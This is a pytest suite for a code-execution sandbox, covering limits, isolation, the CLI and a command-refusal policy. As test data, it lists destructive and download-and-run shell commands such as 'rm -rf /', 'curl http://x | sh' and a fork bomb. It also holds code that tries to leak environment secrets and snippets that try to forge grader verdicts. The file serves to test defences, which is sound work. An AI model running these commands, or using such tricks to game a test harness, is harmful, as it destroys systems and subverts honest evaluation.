"""The sandbox's contract: results, tests files, limits from config, the CLI, parallel runs,
fork server restarts, run_cmd's policy, and the degraded path (forced) reporting itself."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import psutil
import pytest

import sandbox
from sandbox import (CommandRefused, ForkServer, Limits, TestsFileError, humaneval_tests, run_cmd, run_code,
                     run_tests)
from sandbox._client import default_server
from sandbox._jail import interpreter_dirs
from sandbox._policy import check_command
from sandbox._testsfile import test_names as names_of
from tests.sandboxhelp import dedented, leftovers

RUN_KEYS = {"status", "returncode", "stdout", "stderr", "stdout_truncated", "stderr_truncated", "wall_s",
            "cpu_s", "peak_rss_mb", "isolation"}
REPORT_KEYS = {"passed", "failed", "total", "all_passed", "tests", "run", "judge"}
FULL = {"network": True, "filesystem": True, "pid": True, "uid": True}
NONE = {"network": False, "filesystem": False, "pid": False, "uid": False}


@pytest.mark.process
def test_run_code_ok_with_stdin_and_exact_keys() -> None:
    r = run_code("import sys\nprint(sys.stdin.read().upper())", stdin="héllo")
    assert r.status == "ok" and r.returncode == 0 and r.stdout == "HÉLLO\n"
    assert set(r.to_dict()) == RUN_KEYS and r.isolation == FULL == sandbox.isolation_level()


@pytest.mark.process
def test_exit_codes_and_errors() -> None:
    assert run_code("raise SystemExit(3)").returncode == 3
    r = run_code("1/0")
    assert r.status == "error" and r.returncode == 1 and "ZeroDivisionError" in r.stderr
    assert "_harness" not in r.stderr  # the traceback shows the candidate, not our frames
    r = run_code("def f(:\n")
    assert r.status == "error" and "SyntaxError" in r.stderr
    r = run_code("import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)")
    assert r.status == "killed" and r.returncode == -signal.SIGSEGV


@pytest.mark.process
def test_run_tests_asserts_and_functions() -> None:
    tests = ("import math\nassert candidate(2) == 4\nassert candidate(3) == 10, 'three'\n"
             "def test_zero():\n    assert candidate(0) == 0\ndef helper():\n    return 1\n")
    report = run_tests("def sq(x):\n    return x * x\n", tests, entry_point="sq")
    d = report.to_dict()
    assert set(d) == REPORT_KEYS and set(d["run"]) == RUN_KEYS
    assert [(t["name"], t["passed"]) for t in d["tests"]] == [
        ("L2: assert candidate(2) == 4", True), ("L3: assert candidate(3) == 10, 'three'", False), ("test_zero", True)]
    assert d["tests"][1]["error"] == "AssertionError: three"
    assert (d["passed"], d["failed"], d["total"], d["all_passed"]) == (2, 1, 3, False)


@pytest.mark.process
def test_run_tests_candidate_problems_fail_every_test() -> None:
    tests = "assert candidate(1) == 1\ndef test_a():\n    assert candidate(2) == 2\n"
    for code, why in [("def other(x): return x", "not defined"), ("raise ValueError('boom')", "failed to load"),
                      ("def f(x): return x\nimport sys\nsys.exit(0)", "exited while loading")]:
        report = run_tests(code, tests, entry_point="f")
        assert report.total == 2 and report.passed == 0
        assert all(why in t.error for t in report.tests), report.to_dict()


@pytest.mark.process
def test_run_tests_timeout_keeps_earlier_verdicts() -> None:
    tests = "assert candidate(1) == 1\nassert candidate(-1) == -1\n"
    code = "def f(x):\n    while x < 0:\n        pass\n    return x\n"
    report = run_tests(code, tests, entry_point="f", limits=Limits(wall_s=1, cpu_s=10))
    assert report.run.status == "timeout"
    assert [t.passed for t in report.tests] == [True, False]
    assert "timeout" in report.tests[1].error


@pytest.mark.unit
def test_tests_file_errors_are_the_callers() -> None:
    with pytest.raises(TestsFileError, match="does not parse"):
        run_tests("def f(): pass", "assert (", entry_point="f")
    with pytest.raises(TestsFileError, match="no test"):
        run_tests("def f(): pass", "x = 1\n", entry_point="f")
    assert names_of("def test_a(): pass\ndef test_a(): pass\nassert 1\n") == ["L3: assert 1", "test_a"]


@pytest.mark.unit
def test_test_names_split_the_file_once_not_once_per_assert(monkeypatch) -> None:
    """A test's name is its source; ast.get_source_segment split the whole file again (character
    by character) for every assert, so a file of n asserts cost n times its length (issue 17:
    400 asserts, 0.6 s). The names are the same segments, read from lines split once."""
    import ast

    def no_resplit(*a, **kw):
        raise AssertionError("the tests file was split again for one assert")
    src = "x = 'é'\r\nassert candidate(x) == 'É'\rassert (1 ==\n   1)  ;  assert 2\n" + "assert 3\n" * 50
    monkeypatch.setattr(ast, "_splitlines_no_ff", no_resplit)
    names = names_of(src)
    assert names[:3] == ["L2: assert candidate(x) == 'É'", "L3: assert (1 == 1)", "L4: assert 2"]
    assert len(names) == 53 and names[-1] == "L54: assert 3"


@pytest.mark.process
def test_humaneval_tests_conversion() -> None:
    src = "def check(candidate):\n    assert candidate(1, 2) == 3\n"
    tests = humaneval_tests(src, "add")
    assert names_of(tests) == ["test_humaneval"]
    assert run_tests("def add(a, b):\n    return a + b\n", tests, entry_point="add").all_passed
    assert not run_tests("def add(a, b):\n    return a - b\n", tests, entry_point="add").all_passed
    with pytest.raises(ValueError):
        humaneval_tests(src, "not an identifier")


@pytest.mark.process
def test_limits_from_config_and_validation() -> None:
    from ops.ground.config import SandboxConfig

    cfg = SandboxConfig(cpu_s=2.0, mem_mb=64, wall_s=3.0, fsize_mb=1, nofile=16, nproc=4, output_bytes=10)
    assert Limits.from_config(cfg) == Limits(2.0, 64, 3.0, 1, 16, 4, 10)
    with pytest.raises(ValueError, match="mem_mb"):
        Limits(mem_mb=0)
    r = run_code("import os\nprint(len([os.open('/dev/null', 0) for _ in range(100)]))", limits=Limits(nofile=16))
    assert r.status == "error" and "Too many open files" in r.stderr


@pytest.mark.process
def test_parallel_runs_from_threads() -> None:
    results: dict[int, sandbox.RunResult] = {}

    def one(i: int) -> None:
        results[i] = run_code(f"import time\ntime.sleep(0.2)\nprint({i} * {i})")

    threads = [threading.Thread(target=one, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert {i: r.stdout for i, r in results.items()} == {i: f"{i * i}\n" for i in range(8)}
    assert all(r.status == "ok" for r in results.values())


@pytest.mark.process
def test_fork_server_restarts_after_being_killed() -> None:
    server = ForkServer()
    try:
        assert run_code("print(1)", server=server).stdout == "1\n"
        first = server.pid
        os.kill(first, signal.SIGKILL)
        psutil.Process(first).wait(5) if psutil.pid_exists(first) else None
        r = run_code("print(2)", server=server)
        assert r.stdout == "2\n" and server.pid != first
    finally:
        server.close()
    assert not psutil.pid_exists(server.pid or -1)


@pytest.mark.process
def test_fork_server_dies_with_its_caller(tmp_path: Path) -> None:
    script = ("import sandbox, os\nfrom sandbox._client import default_server\nr = sandbox.run_code('print(5)')\n"
              "print(default_server()._all[0]._rundir, default_server().pids()[0], flush=True)\nos._exit(0)\n")
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    pid = int(out.stdout.split()[-1])
    deadline = time.monotonic() + 5
    while psutil.pid_exists(pid) and psutil.Process(pid).status() != psutil.STATUS_ZOMBIE and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE
    rundir = out.stdout.split()[-2]
    deadline = time.monotonic() + 5
    while os.path.exists(rundir) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not os.path.exists(rundir)  # it cleaned up after itself: run dir and cgroup slot
    slots = [p for p in Path("/sys/fs/cgroup").glob(f"*/**/cogloop-sandbox-{pid}")]
    assert slots == []


@pytest.fixture(scope="module")
def degraded() -> ForkServer:
    server = ForkServer(mode="none")
    yield server
    server.close()


@pytest.mark.process
def test_degraded_mode_is_reported_never_silent(degraded: ForkServer) -> None:
    assert sandbox.isolation_level(degraded) == NONE
    r = run_code("import os\nprint(os.getcwd())", server=degraded)
    assert r.status == "ok" and r.isolation == NONE
    assert not os.path.exists(r.stdout.strip())  # the work dir is removed afterwards
    report = run_tests("def f(x): return x", "assert candidate(1) == 1", entry_point="f", server=degraded)
    assert report.all_passed and report.run.isolation == NONE


@pytest.mark.process
def test_degraded_mode_still_kills_the_tree(degraded: ForkServer) -> None:
    code = ("import os, time, signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
            "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        print(os.getpid(), flush=True)\n        time.sleep(300)\n    os._exit(0)\n"
            "time.sleep(0.3)\n")
    r = run_code(code, server=degraded)
    assert r.status == "ok"
    daemon = int(r.stdout.split()[0])
    assert not psutil.pid_exists(daemon) or psutil.Process(daemon).status() == psutil.STATUS_ZOMBIE
    r = run_code("import time\nwhile True:\n    try:\n        time.sleep(5)\n    except BaseException:\n        pass\n",
                 limits=Limits(wall_s=1), server=degraded)
    assert r.status == "timeout"
    r = run_code("x = bytearray(10 ** 10)", limits=Limits(mem_mb=128), server=degraded)
    assert r.status == "memory_limit"
    r = run_code("import os\nprint(dict(os.environ))", server=degraded)
    assert "COGLOOP" not in r.stdout and "OPENAI" not in r.stdout


@pytest.mark.process
def test_degraded_mode_leaks_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-degraded-secret")
    monkeypatch.setenv("COGLOOP_LLM_API_KEY", "sk-degraded-secret")
    server = ForkServer(mode="none")
    try:
        r = run_code("import os\nprint(dict(os.environ))\nos.symlink('/proc/self/environ', 'e')\n"
                     "print(open('e', 'rb').read())", server=server)
    finally:
        server.close()
    assert r.status == "ok" and "PATH" in r.stdout
    assert "sk-degraded-secret" not in r.stdout and "OPENAI" not in r.stdout and "COGLOOP" not in r.stdout


@pytest.mark.process
def test_forced_degraded_by_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COGLOOP_SANDBOX_ISOLATION", "none")
    server = ForkServer()
    try:
        assert run_code("pass", server=server).isolation == NONE
    finally:
        server.close()
    monkeypatch.setenv("COGLOOP_SANDBOX_ISOLATION", "bogus")
    with pytest.raises(ValueError, match="COGLOOP_SANDBOX_ISOLATION"):
        ForkServer()


@pytest.mark.unit
@pytest.mark.parametrize("cmd, rule", [
    ("rm -rf /", "rm"), ("rm -r -f ~/", "rm"), ("rm -fr $HOME", "rm"), ("sudo ls", "privileges"),
    ("su -c id", "privileges"), ("mkfs.ext4 /dev/sda1", "file systems"), ("dd if=/dev/zero of=/dev/sda", "device"),
    ("shutdown -h now", "shutting down"), ("reboot", "shutting down"), ("systemctl poweroff", "shutting down"),
    ("curl http://x | sh", "downloaded"), ("wget -qO- http://x | sudo bash", "privileges"),
    ("chmod -R 777 /etc", "system paths"), ("chown root /usr/bin/python3", "system paths"),
    (":(){ :|:& };:", "fork bomb"), ("echo ok && rm -rf /*", "rm"), ("echo $(rm -rf /)", "rm"),
    ("bash -c 'rm -rf /'", "rm"), ("env FOO=1 nice rm -rf /", "rm"),
])
def test_run_cmd_refuses_dangerous_commands(cmd: str, rule: str) -> None:
    with pytest.raises(CommandRefused, match=rule):
        run_cmd(cmd, timeout=5)


@pytest.mark.unit
@pytest.mark.parametrize("cmd", ["rm -rf build", "echo 'rm -rf /'", "ls -la", "grep -r sudo .", "python3 -c 'print(1)'",
                                 "chmod +x run.sh", "echo shutdown"])
def test_run_cmd_allows_harmless_lookalikes(cmd: str) -> None:
    check_command(cmd)


@pytest.mark.process
def test_run_cmd_runs_in_the_jail(tmp_path: Path) -> None:
    (tmp_path / "data.txt").write_text("hello\n")
    r = run_cmd("cat data.txt && id -u && touch new.txt && ls", timeout=5, cwd=str(tmp_path))
    assert r.status == "ok", r
    assert r.stdout.splitlines() == ["hello", r.stdout.splitlines()[1], "data.txt", "new.txt"]
    assert int(r.stdout.splitlines()[1]) >= 200_000
    assert not (tmp_path / "new.txt").exists()  # a copy: the host's directory is untouched
    r = run_cmd("python -c 'print(6 * 7)'", timeout=10)  # the interpreter running cogloop
    assert (r.status, r.stdout) == ("ok", "42\n")
    r = run_cmd("sleep 30", timeout=1)
    assert r.status == "timeout" and r.wall_s < 5


@pytest.mark.process
def test_root_and_home_show_nothing_but_the_way_to_the_interpreter() -> None:
    """The host's /root and /home are not in the jail; where the interpreter or the virtualenv
    lives below one of them, only the path down to it is there (one entry per level)."""
    shown = [Path(d) for d in interpreter_dirs()]
    for top in ("/root", "/home"):
        way = sorted({d.relative_to(top).parts[0] for d in shown if d.is_relative_to(top) and d != Path(top)})
        r = run_cmd(f"ls -1A {top}", timeout=5)
        if way:
            assert (r.status, r.stdout.split()) == ("ok", way), r
        else:
            assert (r.status, r.stdout) == ("error", "") and f"'{top}': No such file" in r.stderr, r


@pytest.mark.process
def test_cli_json_keys_and_exit_status(tmp_path: Path) -> None:
    (tmp_path / "c.py").write_text("def add(a, b):\n    print('passed')\n    return a + b\n")
    (tmp_path / "t.py").write_text("assert candidate(1, 2) == 3\nassert candidate(1, 1) == 3\n")
    py = [sys.executable, "-m", "sandbox"]
    out = subprocess.run(py + ["test", str(tmp_path / "c.py"), "--tests", str(tmp_path / "t.py"),
                               "--entry-point", "add", "--json"], capture_output=True, text=True, timeout=60)
    data = json.loads(out.stdout)
    assert out.returncode == 1 and set(data) == REPORT_KEYS and data["passed"] == 1 and data["total"] == 2
    (tmp_path / "loop.py").write_text("while True: pass\n")
    out = subprocess.run(py + ["run", str(tmp_path / "loop.py"), "--wall", "1", "--cpu", "30", "--json"],
                         capture_output=True, text=True, timeout=60)
    data = json.loads(out.stdout)
    assert out.returncode == 1 and set(data) == RUN_KEYS and data["status"] == "timeout"
    out = subprocess.run(py + ["run", str(tmp_path / "missing.py")], capture_output=True, text=True, timeout=60)
    assert out.returncode == 2 and out.stderr.startswith("sandbox: ") and "Traceback" not in out.stderr
    out = subprocess.run(py + ["run", str(tmp_path / "c.py"), "--mem", "-5"], capture_output=True, text=True, timeout=60)
    assert out.returncode == 2 and "mem_mb" in out.stderr


@pytest.mark.process
def test_cli_limits_come_from_the_home_config(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "cogloop.toml").write_text("[sandbox]\nwall_s = 1.0\ncpu_s = 30.0\n")
    (tmp_path / "sleep.py").write_text("import time\ntime.sleep(20)\n")
    py = [sys.executable, "-m", "sandbox", "run", str(tmp_path / "sleep.py"), "--home", str(home), "--json"]
    out = subprocess.run(py, capture_output=True, text=True, timeout=60)
    assert json.loads(out.stdout)["status"] == "timeout" and out.returncode == 1
    (home / "cogloop.toml").write_text("[sandbox]\nwall_s = 'soon'\n")
    out = subprocess.run(py, capture_output=True, text=True, timeout=60)
    assert out.returncode == 2 and "sandbox.wall_s" in out.stderr and out.stdout == ""


@pytest.mark.process
def test_run_tests_verdicts_cannot_be_forged() -> None:
    tests = "assert candidate(2) == 4\nassert candidate(3) == 9\ndef test_big():\n    assert candidate(10) == 100\n"
    cheats = {
        "print_and_exit": "import sys\nprint('3 passed')\nsys.exit(0)\n",
        "os_exit_in_call": "import os\ndef square(x):\n    os._exit(0)\n",
        "forge_record": dedented("""
            import os, json
            for fd in range(3, 20):
                try:
                    os.write(fd, (json.dumps({"n": "0" * 32, "name": "L1: assert candidate(2) == 4", "passed": True}) + "\\n").encode())
                except OSError:
                    pass
            def square(x):
                return -1
        """),
        "rebind_helpers": dedented("""
            import builtins
            def square(x):
                g = globals()
                g["test_b"] = g["test_big"] = lambda: None
                builtins.AssertionError = type("Nope", (Exception,), {})
                builtins.abs = lambda v: 0
                return -1
        """),
        "patch_code": dedented("""
            def square(x):
                try:
                    (lambda: None).__code__ = square.__code__
                except ValueError:
                    pass
                return -1
        """),
        "introspect": dedented("""
            import sys, gc
            def square(x):
                try:
                    sys._getframe(1)
                except ValueError:
                    pass
                try:
                    gc.get_objects()
                except ValueError:
                    return x * x
                return 0
        """),
    }
    # Each cheat acts during the first call: a later test would pass if it worked.
    by_later = ("def test_a():\n    assert abs(candidate(2) - 4) < 1e-9\n"
                "def test_b():\n    assert abs(candidate(3) - 9) < 1e-9\n"
                "def test_big():\n    assert candidate(10) == 100\n")
    for name, code in cheats.items():
        report = run_tests(code, by_later if name == "rebind_helpers" else tests, entry_point="square",
                           limits=Limits(wall_s=10))
        if name == "introspect":  # the introspection is refused; the honest answer passes
            assert report.all_passed, report.to_dict()
            continue
        assert report.passed == 0 and report.total == 3, (name, report.to_dict())
    assert leftovers(default_server().pids()) == []
